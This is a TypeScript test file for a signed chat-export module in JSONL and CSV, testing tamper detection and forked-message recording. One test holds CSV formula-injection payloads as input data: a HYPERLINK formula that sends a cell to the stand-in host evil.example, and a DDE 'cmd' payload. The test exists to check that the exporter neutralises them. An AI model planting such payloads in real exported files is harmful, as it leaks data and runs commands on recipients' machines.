import { describe, expect, it } from 'vitest'
import { generateIdentityKey, signForDomain } from '../../src/crypto/keys.js'
import { buildExport, EXPORT_DOMAIN, verifyExport } from '../../src/export/export-file.js'
import { peerIdOfPublicKey } from '../../src/ids.js'
import type { ExportRecord } from '../../src/export/export-file.js'

async function sample (format: 'jsonl' | 'csv'): Promise<string[]> {
  const key = await generateIdentityKey()
  const records: ExportRecord[] = [
    { kind: 'membership', time: 1, author: 'a', authorName: 'Ann', text: 'epoch 1: Ann, Bob', id: 'r1', epoch: 1, members: ['a', 'b'] },
    { kind: 'message', time: 2, author: 'a', authorName: 'Ann', text: 'hello, "world"\nsecond line', id: 'm1', seq: 1, epoch: 1 },
    { kind: 'message', time: 3, author: 'b', authorName: 'Bob', text: 'reply', id: 'm2', seq: 1, epoch: 1 }
  ]
  return buildExport({
    org: 'o', team: 'general', exportedBy: peerIdOfPublicKey(key.publicKey.raw), exportedByName: 'Ann',
    publicKey: Buffer.from(key.publicKey.raw).toString('base64'), exportedAt: 10
  }, records, async d => signForDomain(key, EXPORT_DOMAIN, d), format)
}

describe('export', () => {
  for (const format of ['jsonl', 'csv'] as const) {
    it(`${format}: verifies an intact export and catches every kind of tampering`, async () => {
      const lines = await sample(format)
      const text = lines.join('\n') + '\n'
      expect(await verifyExport(text)).toMatchObject({ records: 3, team: 'general', exportedByName: 'Ann' })
      const body = format === 'csv' ? 2 : 1 // first record line
      const altered = lines.map(l => l.replace('reply', 'REPLY')).join('\n')
      await expect(verifyExport(altered)).rejects.toThrow(/altered/)
      const deleted = lines.filter((_, i) => i !== body + 1).join('\n')
      await expect(verifyExport(deleted)).rejects.toThrow(/removed, added or reordered/)
      const cut = lines.slice(0, -1).join('\n')
      await expect(verifyExport(cut)).rejects.toThrow(/cut short/)
      const swapped = [...lines]
      ;[swapped[body], swapped[body + 1]] = [swapped[body + 1]!, swapped[body]!]
      await expect(verifyExport(swapped.join('\n'))).rejects.toThrow(/line/)
    })
  }

  it('csv: neutralises cells a spreadsheet would run as formulas, and still verifies', async () => {
    const key = await generateIdentityKey()
    const texts = ['=HYPERLINK("http://evil.example/?"&A1,"invoice")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1', '-2+3', '\tx', '\rx', "'already quoted", 'plain']
    const records: ExportRecord[] = texts.map((text, i) => ({ kind: 'message', time: i, author: 'a', authorName: i === 0 ? '=cmd' : 'Ann', text, id: `m${i}`, seq: i + 1, epoch: 1 }))
    const lines = await buildExport({
      org: 'o', team: 'general', exportedBy: peerIdOfPublicKey(key.publicKey.raw), exportedByName: 'Ann',
      publicKey: Buffer.from(key.publicKey.raw).toString('base64'), exportedAt: 10
    }, records, async d => signForDomain(key, EXPORT_DOMAIN, d), 'csv')
    // every cell of every record line: none starts with a formula character once unquoted
    for (const line of lines.slice(1)) {
      for (const cell of line.match(/("(?:[^"]|"")*"|[^,]*)(,|$)/g) ?? []) {
        const value = cell.replace(/,$/, '').replace(/^"(.*)"$/s, '$1')
        expect(value).not.toMatch(/^[=+\-@\t\r]/)
      }
    }
    expect(lines.join('\n')).toContain("'=HYPERLINK(")
    expect(await verifyExport(lines.join('\n') + '\n')).toMatchObject({ records: texts.length })
  })

  for (const format of ['jsonl', 'csv'] as const) {
    it(`${format}: records both versions of a forked message, verifies, and catches either version altered`, async () => {
      const key = await generateIdentityKey()
      const forked = { otherId: 'b2', versions: [{ id: 'a1', text: 'I approve EUR 5,000' }, { id: 'b2', text: 'I approve EUR 50,000' }] }
      const lines = await buildExport({
        org: 'o', team: 'general', exportedBy: peerIdOfPublicKey(key.publicKey.raw), exportedByName: 'Ann',
        publicKey: Buffer.from(key.publicKey.raw).toString('base64'), exportedAt: 10
      }, [{ kind: 'message', time: 2, author: 'm', authorName: 'Mallory', text: 'I approve EUR 5,000', id: 'a1', seq: 1, epoch: 1, forked, forker: true }], async d => signForDomain(key, EXPORT_DOMAIN, d), format)
      const text = lines.join('\n')
      expect(await verifyExport(text)).toMatchObject({ records: 1 })
      expect(text).toContain('I approve EUR 50,000')
      await expect(verifyExport(text.replace('EUR 50,000', 'EUR 500'))).rejects.toThrow(/altered/)
      await expect(verifyExport(text.replace('"b2"', '"c3"'))).rejects.toThrow(/altered/)
    })
  }

  it('catches a recomputed chain: the signature covers the last hash', async () => {
    const lines = await sample('jsonl')
    const other = await sample('jsonl')
    // someone rebuilds a valid-looking chain and keeps the old trailer: the signature does not match
    const forged = [...other.slice(0, -1), lines.at(-1)!].join('\n')
    await expect(verifyExport(forged)).rejects.toThrow(/last line does not match|signature/)
    await expect(verifyExport('not an export')).rejects.toThrow(/not JSON|header/)
  })
})
